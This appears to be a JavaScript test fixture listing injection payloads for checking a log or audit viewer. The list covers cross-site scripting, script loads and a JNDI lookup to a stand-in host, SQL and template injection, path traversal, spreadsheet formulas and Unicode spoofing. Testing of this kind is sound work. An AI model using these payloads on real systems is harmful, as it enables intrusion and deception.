// Values that attackers put into user names, headers and the like, to run script, to load something, or to make a log show other than it says.
// If one of those that run something does, it raises a dialog, sets window.hit, or asks evil.example; the steps look for all three.

const run = "alert(1),window.hit=1";

const TAGS = [
  `<script>${run}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script type=module>import "https://evil.example/m.js"</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\t>${run}</script\n>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src=javascript:${run}></iframe>`,
  `<object data=javascript:${run}></object>`,
  `<embed src=https://evil.example/x.swf>`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{display:none!important}</style>`,
  `<form action=https://evil.example/><button>Sign in</button></form>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<dialog open>Your session has expired</dialog>`,
];

const HANDLERS = [
  `<img src=x onerror=${run}>`,
  `<img src=https://evil.example/pixel.png>`,
  `<img src=x:x onerror="${run}">`,
  `<img/src='x'/onerror='${run}'>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<div style="animation:x" onanimationstart=${run}>`,
  `<a href=# onclick=${run} style=position:fixed;inset:0>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus tabindex='1`,
  `x" style="position:fixed;inset:0;background:red" y="`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${run}>`,
];

const VECTORS = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${run}><text>x</text></a></svg>`,
  `<svg><use href=https://evil.example/x.svg#x></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>top.hit=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href=javascript:${run}>x</math>`,
];

const ADDRESSES = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/%2f..`,
  `https://evil.example/?q=<script>`,
  `/v1/audit/export?format=csv`,
];

const CODE = [
  "${alert(1)}",
  "`;alert(1);//",
  "{{constructor.constructor('alert(1)')()}}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "';alert(1);//",
  '");alert(1);//',
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "${jndi:ldap://evil.example/a}",
  "__proto__",
  "constructor",
  "toString",
  "' OR 1=1 --",
  "../../../../etc/passwd",
];

const UNSEEN = [
  "admin\u202egpj.exe",
  "\u202e\u2066\u202dtxt.nimda\u2069\u202c",
  "\u2067reversed\u2069",
  "a\u0000b",
  "\u0000",
  "\u001b[31mred\u001b[0m\u001b[2J\u001b]0;title\u0007",
  "one\r\ntwo: forged line",
  "back\b\b\bspace\u007f\u0085",
  "zero\u200bwidth\u200c\u200d\u2060\ufeff",
  "line\u2028separator\u2029",
  "soft\u00adhyphen\u034f",
  "tags\u{e0041}\u{e0042}\u{e007f}",
  "\u3164\u115f\uffa0",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O\u0342\u030c\u030c\u0358\u0328\u0335\u0339\u033b\u031d\u0333",
  "👩‍💻 \u{1f468}\u200d\u{1f469}\u200d\u{1f467} 🏴‍☠️",
  "العربية ١٢٣ עברית",
  "\u{10ffff}\ue000",
  "   spaces   in   between   ",
];

const SHEETS = [
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3`,
  `@SUM(1)`,
  `=HYPERLINK("https://evil.example/","open")`,
  `\t=1+1`,
  `"quoted","cells"`,
];

const LONG = [
  `<img src=x onerror=${run}>`.repeat(30).slice(0, 1024),
  "W".repeat(1024),
  "\u202e".repeat(300),
  "x ".repeat(500),
  "😀".repeat(400),
];

/** All of them, each once. */
export const PAYLOADS = [...new Set([...TAGS, ...HANDLERS, ...VECTORS, ...ADDRESSES, ...CODE, ...UNSEEN, ...SHEETS, ...LONG])];

/** An event that has a payload in every field that takes one, the names in its details among them. */
export function hostileEvent(payload) {
  return {
    type: "hostile",
    user_id: payload,
    source: payload,
    target: payload,
    details: { [payload || "empty"]: payload, list: [payload, { nested: payload }] },
  };
}
